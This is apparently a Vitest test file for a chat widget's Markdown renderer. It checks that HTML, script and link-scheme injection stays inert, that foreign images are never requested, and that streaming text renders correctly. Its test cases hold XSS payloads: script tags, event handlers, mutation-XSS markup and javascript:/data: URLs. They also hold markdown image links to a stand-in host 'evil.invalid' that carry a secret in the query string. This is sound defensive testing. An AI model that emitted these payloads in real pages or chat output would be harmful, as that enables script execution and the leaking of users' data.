import { cleanup } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';

import { renderWidget } from '../testing/render-widget.tsx';
import { sampleMessage } from '../testing/sample-messages.ts';
import { seedChat } from '../testing/seed-chat.ts';

const FOREIGN = 'https://evil.invalid';

function draw(text: string, state: 'complete' | 'streaming' = 'complete', origins: string[] = []) {
  const chat = seedChat({ messages: [sampleMessage('assistant', text, { state })] });
  const { slots } = renderWidget(chat, { defaultOpen: true, allowedImageOrigins: origins });
  return slots('text')[0]!;
}

/** Every address the page has asked for since it was loaded. */
const requests = () =>
  performance
    .getEntriesByType('resource')
    .map(({ name }) => name)
    .filter((name) => name.startsWith(FOREIGN));

afterEach(() => {
  Reflect.deleteProperty(window, 'pwned');
});

describe('Markdown', () => {
  it.each([
    ['a script', '<script>window.pwned = 1</script>'],
    ['an image with a handler', '<img src=x onerror="window.pwned = 1">'],
    ['an SVG with a handler', '<svg onload="window.pwned = 1"><circle/></svg>'],
    ['a frame', '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>'],
    [
      'mutating markup',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.pwned=1&gt;">',
    ],
    ['a form', '<form id="parley"><input name="body"></form>'],
    ['a style', '<style>* { background: url(https://evil.invalid/css) }</style>'],
    ['markup in a list', '- <b onclick="window.pwned = 1">x</b>'],
    ['markup in a table', '| a |\n|---|\n| <img src=x onerror="window.pwned = 1"> |'],
  ])('NLX defect 12: shows %s as the text it is', (_title, text) => {
    const element = draw(text);
    expect(
      element.querySelector(
        'script, img, svg:not([data-slot="icon"]), iframe, form, style, math, b',
      ),
    ).toBeNull();
    expect(element.textContent).toContain('<');
    expect(Reflect.get(window, 'pwned')).toBeUndefined();
  });

  it.each([
    'javascript:window.pwned=1',
    'JaVaScRiPt:window.pwned=1',
    'java&#09;script:window.pwned=1',
    '&#106;avascript:window.pwned=1',
    'vbscript:msgbox(1)',
    'data:text/html,<script>window.pwned=1</script>',
    'blob:https://evil.invalid/1',
    '//evil.invalid',
    '/logout',
  ])('makes no link of %s', (address) => {
    const element = draw(`[click me](${address}) <${address}> [b][b]\n\n[b]: ${address}`);
    expect([...element.querySelectorAll('a')].map((link) => link.href)).toEqual([]);
    expect(element.textContent).toContain('click me');
  });

  it('opens a good link elsewhere, and tells nobody where from', () => {
    const link = draw('[the page](https://shop.example/a)').querySelector('a')!;
    expect(link.href).toBe('https://shop.example/a');
    expect(link.target).toBe('_blank');
    expect(link.rel).toBe('noopener noreferrer');
  });

  it('asks foreign origins for nothing', () => {
    const element = draw(
      `![a](${FOREIGN}/a?q=secret) ![b][b] <img src="${FOREIGN}/c"> [![d](${FOREIGN}/d)](https://a.example)\n\n[b]: ${FOREIGN}/b`,
    );
    expect(element.querySelector('img')).toBeNull();
    expect(element.querySelector('a')!.href).toBe(`${FOREIGN}/a?q=secret`);
    expect(requests()).toEqual([]);
  });

  it('shows an image of an allowed origin only', () => {
    const { origin } = window.location;
    const element = draw(`![a](${origin}/a.png) ![b](${FOREIGN}/b.png)`, 'complete', [origin]);
    expect([...element.querySelectorAll('img')].map((image) => image.alt)).toEqual(['a']);
    expect(requests()).toEqual([]);
  });

  it('looks whole while it is written', () => {
    const half = (text: string) => {
      const { innerHTML } = draw(text, 'streaming');
      cleanup();
      return innerHTML;
    };
    expect(half('some **bold te')).toContain('<strong>bold te</strong>');
    expect(half('```js\nconst a')).toContain('<code>const a</code>');
    expect(half('see [the manual](https://sh')).toContain('see the manual');
    expect(half('a `co')).toContain('<code>co</code>');
    expect(half('one\n-')).not.toContain('<h');
  });

  it('keeps the elements of the blocks that are done while the last one grows', () => {
    const message = sampleMessage('assistant', '# One\n\nTwo\n\nThr', { state: 'streaming' });
    const chat = seedChat({ messages: [message] });
    const { slots } = renderWidget(chat);
    const [heading, second] = slots('text')[0]!.children;
    const changes: Node[] = [];
    const observer = new MutationObserver((list) =>
      changes.push(...list.map(({ target }) => target)),
    );
    observer.observe(slots('text')[0]!, { childList: true, characterData: true, subtree: true });
    chat.setMessage(message.id, { parts: [{ type: 'text', text: '# One\n\nTwo\n\nThree' }] });
    changes.push(...observer.takeRecords().map(({ target }) => target));
    expect(slots('text')[0]!.children[0]).toBe(heading);
    expect(changes.some((node) => heading!.contains(node) || second!.contains(node))).toBe(false);
  });

  it('shows a text beyond all measure, the end as plain text', () => {
    const element = draw(`${'**word** '.repeat(15_000)}`);
    expect(element.textContent.length).toBeGreaterThan(100_000);
  });
});
